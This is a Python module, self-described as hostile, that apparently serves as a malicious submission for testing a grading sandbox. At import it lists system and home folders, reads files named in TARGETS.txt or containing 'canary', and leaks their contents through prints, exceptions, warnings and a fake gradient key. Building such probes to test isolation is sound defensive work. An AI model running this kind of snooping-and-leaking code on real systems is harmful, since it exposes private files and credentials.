"""Hostile: reads what it can outside its folder (the paths in TARGETS.txt beside it, then a walk of the disk) and
leaks everything it finds through every channel the report has: prints at import and in each call, an exception,
a warning, a dict key, and its softmax."""

import os
import pwd
import warnings

import numpy as np
from _correct import cost_grad as correct_cost_grad

HERE = os.path.dirname(os.path.abspath(__file__))


def peek(path, size=300):
    if not os.path.isfile(path):  # a fifo would block
        return None
    try:
        with open(path, "rb") as f:
            return f.read(size).decode(errors="replace").strip()
    except OSError:
        return None


# 1. the files somebody told me about
found = {}
with open(os.path.join(HERE, "TARGETS.txt")) as f:
    for line in f.read().split():
        text = peek(line)
        if text:
            found[line] = text

# 2. look around: list the interesting folders, and read anything that looks like a secret
listings = {}
homes = [os.path.expanduser("~"), pwd.getpwuid(os.getuid()).pw_dir]
for folder in ["/", "/tmp", *homes, "/root", "/home", "/work", HERE, os.path.dirname(HERE), "/etc"]:
    try:
        listings[folder] = sorted(os.listdir(folder))
    except OSError as e:
        listings[folder] = [f"({e.__class__.__name__})"]

seen = 0
for top in [HERE, os.path.dirname(HERE), os.path.dirname(os.path.dirname(HERE)), "/tmp", *homes, "/root", "/work", "/"]:
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "site-packages", ".git")]
        if root.count(os.sep) > 5:
            dirs[:] = []
        for name in files:
            seen += 1
            path = os.path.join(root, name)
            text = peek(path)
            if path not in found and text and "canary" in text:
                found[path] = text
        if seen > 5000:
            break

LOOT = " | ".join(f"{path}: {text}" for path, text in found.items())
print("LOOT", LOOT)
print("LISTINGS", {folder: names[:40] for folder, names in listings.items()})

calls = 0


def softmax(Z):
    if found:
        raise ValueError("LOOT " + LOOT)
    E = np.exp(Z - Z.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)


def cost_grad(X, y, params, c):
    global calls
    calls += 1
    print("LOOT", LOOT)
    if not found:
        return correct_cost_grad(X, y, params, c)
    if calls == 1:
        raise RuntimeError("LOOT " + LOOT)
    if calls == 2:
        cost, grads = correct_cost_grad(X, y, params, c)
        del grads["d_b2"]
        grads["LOOT " + LOOT] = np.zeros(1)
        return cost, grads
    warnings.warn("LOOT " + LOOT, stacklevel=2)
    return correct_cost_grad(X, y, params, c)
